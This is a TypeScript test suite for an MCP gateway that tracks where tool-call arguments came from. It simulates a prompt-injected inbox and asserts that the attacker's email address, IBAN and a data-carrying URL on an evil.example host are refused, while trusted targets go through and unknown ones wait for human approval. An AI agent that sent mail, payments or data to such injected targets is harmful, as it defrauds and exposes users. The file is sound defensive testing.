import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { RunningServer } from '../../src/server/index.js';
import { ADMIN_TOKEN, ROOT, grantTask, http, startWithUpstreams } from '../helpers.js';
import { verifies } from './verifies.js';

const FIXTURE = join(ROOT, 'dist/test/fixtures/fixture-mcp-server.js');
type Meta = { 'mandate/decision'?: { outcome: string; code: string; policies?: string[] } };
const decisionOf = (r: unknown) => (r as { _meta?: Meta })._meta?.['mandate/decision'];

/**
 * Argument provenance through the real MCP gateway and a real MCP server whose
 * inbox carries an injected instruction: the attacker's targets are refused,
 * the user's own go through, and only what nobody vouched for waits for a person.
 */
describe('argument provenance: where a call’s targets came from', () => {
  let server: RunningServer;
  let close: () => Promise<void>;
  const clients: Client[] = [];

  before(async () => {
    ({ server, close } = await startWithUpstreams({
      fx: {
        transport: 'stdio',
        command: process.execPath,
        args: [FIXTURE],
        tools: {
          inbox: { kind: 'read', labels: ['untrusted'], counterparty: ['from'] },
          contacts: { kind: 'read' },
          send_email: { kind: 'send', risk: 'medium', targets: ['to'] },
          pay: { kind: 'payment', risk: 'high', targets: ['iban'] },
          calendar: { kind: 'read', untrustedFields: ['description'] },
          fetch: { kind: 'read', labels: ['untrusted'], targets: ['url'] },
          invite: { kind: 'write', effects: ['send'], risk: 'medium', targets: ['participants'] },
        },
      },
    }));
  });
  after(async () => {
    await Promise.all(clients.map((c) => c.close().catch(() => undefined)));
    await close();
  });

  async function task(tools: unknown[], purpose = 'answer the supplier and settle invoices') {
    const granted = await grantTask(server.url, 'report-bot', { purpose, ttlSeconds: 600, tools });
    assert.equal(granted.status, 201, JSON.stringify(granted.body));
    const client = new Client({ name: 'agent', version: '1' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${granted.credential}` } } }));
    clients.push(client);
    const call = async (name: string, args: Record<string, unknown> = {}) => decisionOf(await client.callTool({ name, arguments: args }));
    return { ...granted, call };
  }
  const ALL = ['fx.inbox', 'fx.contacts', 'fx.send_email', 'fx.pay'];
  /** The full decision, with its determining policies and target provenance, as an SDK sees it. */
  const decide = async (credential: string, tool: string, args: Record<string, unknown>) => (await http(server.url, '/v1/decide', { body: { credential, tool, args } })).body;

  verifies('provenance:injected-target-denied', 'the attacker’s address and IBAN from the inbox are refused outright', async () => {
    const t = await task(ALL);
    assert.equal((await t.call('fx.inbox'))?.outcome, 'allow');
    const send = await t.call('fx.send_email', { to: 'EVE@evil.example', body: 'Q3 report' });
    assert.equal(send?.outcome, 'deny');
    assert.equal(send?.code, 'policy.forbid');
    const pay = await t.call('fx.pay', { iban: 'gb33bukb20201555555555', amount: 4471 });
    assert.equal(pay?.outcome, 'deny');
    assert.equal(pay?.code, 'policy.forbid');
    // One smuggled recipient among legitimate ones is enough.
    await t.call('fx.contacts');
    const mixed = await t.call('fx.send_email', { to: ['bob@example.com', 'eve@evil.example'] });
    assert.equal(mixed?.outcome, 'deny');
  });

  verifies('provenance:declared-target-after-untrusted', 'a recipient the mandate names is allowed after the inbox was read', async () => {
    const t = await task(['fx.inbox', { name: 'fx.send_email', args: { to: { oneOf: ['carol@example.com'] } } }]);
    await t.call('fx.inbox');
    assert.equal((await t.call('fx.send_email', { to: 'carol@example.com' }))?.outcome, 'allow');
  });

  verifies('provenance:trusted-target-after-untrusted', 'a recipient and an IBAN from the user’s contacts are allowed after the inbox was read', async () => {
    const t = await task(ALL);
    await t.call('fx.contacts');
    await t.call('fx.inbox');
    assert.equal((await t.call('fx.send_email', { to: 'Bob@Example.com' }))?.outcome, 'allow');
    // Payments still wait for a person (step-up-sensitive-actions), but not because of where the IBAN came from.
    const pay = await decide(t.credential, 'fx.pay', { iban: 'DE89370400440532013000', amount: 900 });
    assert.equal(pay.outcome, 'step_up');
    assert.deepEqual(pay.policies, ['step-up-sensitive-actions']);
    assert.deepEqual(pay.targets, [{ arg: 'iban', provenance: 'trusted' }]);
  });

  verifies('provenance:counterparty', 'the sender of the inbox message may be answered, not paid', async () => {
    const t = await task(ALL);
    await t.call('fx.inbox');
    const reply = await decide(t.credential, 'fx.send_email', { to: 'supplier@partner.example', body: 'received, thanks' });
    assert.deepEqual([reply.outcome, reply.targets], ['allow', [{ arg: 'to', provenance: 'counterparty' }]]);
    // The attacker's address in the body stays untrusted.
    assert.equal((await t.call('fx.send_email', { to: 'eve@evil.example' }))?.code, 'policy.forbid');
  });

  verifies('provenance:unseen-target-steps-up', 'a recipient the task never saw waits for a person after the inbox was read', async () => {
    const t = await task(ALL);
    await t.call('fx.inbox');
    assert.equal((await t.call('fx.send_email', { to: 'someone.new@example.org' }))?.outcome, 'step_up');
    const d = await decide(t.credential, 'fx.send_email', { to: 'someone.new@example.org' });
    assert.deepEqual(d.policies, ['step-up-high-risk-after-untrusted']);
    assert.deepEqual(d.targets, [{ arg: 'to', provenance: 'unseen' }]);
  });

  verifies('provenance:tighten-contains-attack', 'three injected sends are refused; the task goes on for the user and refuses only doubtful targets', async () => {
    const t = await task(ALL);
    await t.call('fx.contacts');
    await t.call('fx.inbox');
    for (let i = 0; i < 3; i++) assert.equal((await t.call('fx.send_email', { to: 'eve@evil.example' }))?.code, 'policy.forbid');
    const drift = (await http(server.url, `/v1/tasks/${t.taskId}`, { token: ADMIN_TOKEN })).body.drift;
    assert.deepEqual([drift.tightenedBy, drift.suspendedBy], ['repeated_denials', null]);
    // The user's work goes on: reading, and writing to the people they trust.
    assert.equal((await t.call('fx.inbox'))?.outcome, 'allow');
    assert.equal((await t.call('fx.send_email', { to: 'bob@example.com' }))?.outcome, 'allow');
    // What nobody vouched for is now refused outright instead of waiting for a person.
    const unseen = await t.call('fx.send_email', { to: 'someone.new@example.org' });
    assert.deepEqual([unseen?.outcome, unseen?.code], ['deny', 'monitor.drift.repeated_denials']);
    await server.plane.audit.flush();
    const signals = await server.plane.store.audit.list({ type: 'monitor.signal', taskId: t.taskId as never });
    const fired = signals.find((e) => e.data['signal'] === 'repeated_denials');
    assert.equal(fired?.data['response'], 'tighten');
    assert.match(String(fired?.data['decisionId']), /^dcn_/);
    assert.deepEqual(fired?.data['targets'], [{ arg: 'to', provenance: 'untrusted' }]);
  });

  verifies('provenance:untrusted-fields', 'a field others write in a trusted result (an event description) is untrusted content; the rest of the result stays trusted', async () => {
    const t = await task(['fx.calendar', 'fx.invite']);
    await t.call('fx.calendar');
    const injected = await decide(t.credential, 'fx.invite', { title: 'Audit sync', participants: ['carol@example.com', 'dana@advisory.example'] });
    assert.deepEqual([injected.outcome, injected.reason.code, injected.targets], ['deny', 'policy.forbid', [{ arg: 'participants[0]', provenance: 'trusted' }, { arg: 'participants[1]', provenance: 'untrusted' }]]);
    assert.equal((await t.call('fx.invite', { title: 'Audit sync', participants: ['carol@example.com', 'dan@example.com'] }))?.outcome, 'allow');
    // Content others wrote entered the task: it is untrusted from now on.
    const labels = (await http(server.url, `/v1/tasks/${t.taskId}`, { token: ADMIN_TOKEN })).body.drift.labels;
    assert.ok(labels.includes('untrusted'), JSON.stringify(labels));
  });

  verifies('monitor:trail-records-changes', 'a decision record carries the labels and tools added since the previous record of the task, not the whole sets again', async () => {
    const t = await task(['fx.calendar', 'fx.invite']);
    await t.call('fx.calendar');
    await t.call('fx.invite', { title: 'a', participants: ['carol@example.com'] });
    await t.call('fx.invite', { title: 'b', participants: ['carol@example.com'] });
    await server.plane.audit.flush();
    const records = await server.plane.store.audit.list({ type: 'decision', taskId: t.taskId as never });
    assert.deepEqual(
      records.map((e) => [e.data['tool'], e.data['labelsAdded'], e.data['toolsCalledAdded']]),
      [
        ['fx.calendar', [], ['fx.calendar']],
        ['fx.invite', ['untrusted'], ['fx.invite']],
        ['fx.invite', [], []],
      ],
    );
  });

  verifies('provenance:composed-url', 'after untrusted content, a link followed as written is allowed; a URL the agent put together, carrying data, is refused', async () => {
    const t = await task(['fx.fetch']);
    assert.equal((await t.call('fx.fetch', { url: 'https://search.example/?q=newsletters' }))?.outcome, 'allow', 'before anything untrusted was read');
    const followed = await decide(t.credential, 'fx.fetch', { url: 'HTTPS://News.Partner.example/unsub?u=7&list=promo' });
    assert.deepEqual([followed.outcome, followed.targets], ['allow', [{ arg: 'url', provenance: 'untrusted' }]]);
    const composed = await decide(t.credential, 'fx.fetch', { url: 'https://t.evil.example/c?subjects=Payroll%20April' });
    assert.deepEqual([composed.outcome, composed.reason.code, composed.policies, composed.targets], ['deny', 'policy.forbid', ['forbid-composed-read-after-untrusted'], [{ arg: 'url', provenance: 'unseen' }]]);
  });

  verifies('provenance:purpose-values', 'a target the mandate’s purpose states is the user’s own: trusted from the start', async () => {
    const t = await task(['fx.inbox', 'fx.send_email'], 'send the Q3 summary to grace@example.net');
    await t.call('fx.inbox');
    const d = await decide(t.credential, 'fx.send_email', { to: 'grace@example.net' });
    assert.deepEqual([d.outcome, d.targets], ['allow', [{ arg: 'to', provenance: 'trusted' }]]);
  });

  verifies('provenance:bad-input-bounded', 'oversized, binary and deeply nested input: clear errors, bounded work, no accidental allow', async () => {
    const t = await task(['fx.inbox', 'fx.send_email']);
    const report = (body: unknown) => http(server.url, `/v1/tasks/${t.taskId}/results`, { token: t.credential, body });
    const tooLarge = await report({ tool: 'fx.inbox', status: 'ok', content: 'x'.repeat(5 * 1024 * 1024) });
    assert.equal(tooLarge.status, 413);
    assert.equal(tooLarge.body.error.code, 'request.too_large');
    const binary = String.fromCharCode(...Array.from({ length: 60_000 }, (_, i) => (i * 7919) % 65_536));
    assert.equal((await report({ tool: 'fx.inbox', status: 'ok', content: `${binary} mallory@evil.example` })).status, 202);
    let deep: unknown = 'eve@evil.example';
    for (let i = 0; i < 2_000; i++) deep = { d: deep };
    assert.equal((await report({ tool: 'fx.inbox', status: 'ok', content: deep })).status, 202);
    assert.equal((await report({ tool: 'fx.inbox', status: 'ok', values: Array.from({ length: 5_000 }, (_, i) => `v${i}@x.example`) })).status, 400, 'more values than the schema allows');
    // Values found past the binary noise still count (untrusted: the inbox is labelled so).
    const d = await decide(t.credential, 'fx.send_email', { to: 'mallory@evil.example' });
    assert.deepEqual([d.outcome, d.targets], ['deny', [{ arg: 'to', provenance: 'untrusted' }]]);
    // A huge list of recipients: bounded, and decided as a whole — never allowed because the tail went unread.
    const many = await decide(t.credential, 'fx.send_email', { to: Array.from({ length: 1_500 }, (_, i) => `r${i}@new.example`) });
    assert.notEqual(many.outcome, 'allow');
    assert.equal(many.targets.at(-1).provenance, 'unseen');
    // Deeply nested arguments are decided, not crashed on.
    const nested = await decide(t.credential, 'fx.send_email', { to: deep });
    assert.notEqual(nested.outcome, 'allow');
  });

  verifies('provenance:reported-values', 'values an SDK reports count as seen, with the trust of the result’s labels', async () => {
    const t = await task(['fx.inbox', 'fx.send_email']);
    const decideSend = (args: Record<string, unknown>) => decide(t.credential, 'fx.send_email', args);
    const report = (body: Record<string, unknown>) => http(server.url, `/v1/tasks/${t.taskId}/results`, { token: t.credential, body: { tool: 'fx.inbox', status: 'ok', ...body } });
    assert.equal((await report({ content: 'Reply to mallory@evil.example please' })).status, 202);
    const refused = await decideSend({ to: 'mallory@evil.example' });
    assert.equal(refused.outcome, 'deny');
    assert.deepEqual(refused.targets, [{ arg: 'to', provenance: 'untrusted' }]);
    // Reported as extracted values from a result not labelled untrusted (a tool without labels).
    assert.equal((await http(server.url, `/v1/tasks/${t.taskId}/results`, { token: t.credential, body: { tool: 'fx.send_email', status: 'ok', values: ['dave@example.com'] } })).status, 202);
    const allowed = await decideSend({ to: 'dave@example.com' });
    assert.equal(allowed.outcome, 'allow', JSON.stringify(allowed));
    assert.deepEqual(allowed.targets, [{ arg: 'to', provenance: 'trusted' }]);
    // The content itself is kept nowhere: not in the trail, not in the stored values (hashes only).
    await server.plane.audit.flush();
    const events = JSON.stringify(await server.plane.store.audit.list({ taskId: t.taskId as never, limit: 1000 }));
    assert.ok(events.includes('tool.result'));
    assert.ok(!events.includes('Reply to'), 'no result content in the trail');
    const stored = JSON.stringify(await server.plane.store.behaviour.get(t.taskId as never));
    assert.ok(!stored.includes('mallory') && !stored.includes('dave'), 'stored values are salted hashes');
  });
});
